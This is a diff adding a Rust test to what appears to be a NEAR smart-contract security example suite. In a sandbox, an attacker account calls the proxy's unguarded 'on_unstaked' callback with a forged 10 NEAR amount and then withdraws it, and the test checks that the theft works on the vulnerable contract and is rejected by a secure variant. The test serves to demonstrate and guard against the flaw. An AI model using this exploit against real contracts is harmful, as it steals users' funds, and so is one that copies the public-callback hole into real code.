@@ -0,0 +1,53 @@
+//! Calling the unstake callback directly credits a fabricated amount
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "public_callback",
+    description: "on_unstaked is called directly with the attacker's account and amount",
+    must_succeed: || Box::pin(attack("public_callback")),
+    must_fail: || Box::pin(attack("public_callback_secure")),
+    rejection: "Method on_unstaked is private",
+};
+
+/// Liquid NEAR the proxy holds for honest users' completed withdrawals
+const FORGED: NearToken = NearToken::from_near(10);
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let proxy = s
+        .deploy(
+            contract,
+            "proxy",
+            CONTRACT_BALANCE,
+            json!({ "pool": s.owner.id() }),
+        )
+        .await?;
+
+    // No stake, no unstake, no pool involved
+    s.attacker
+        .call(proxy.id(), "on_unstaked")
+        .args_json(json!({ "account_id": s.attacker.id(), "amount": FORGED }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let before = s.balance(s.attacker.id()).await?;
+    s.attacker
+        .call(proxy.id(), "withdraw")
+        .args_json(json!({ "amount": FORGED }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let gained = s.balance(s.attacker.id()).await?.saturating_sub(before);
+    ensure!(
+        gained > FORGED.saturating_sub(NearToken::from_millinear(100)),
+        "attacker only gained {gained}"
+    );
+    Ok(())
+}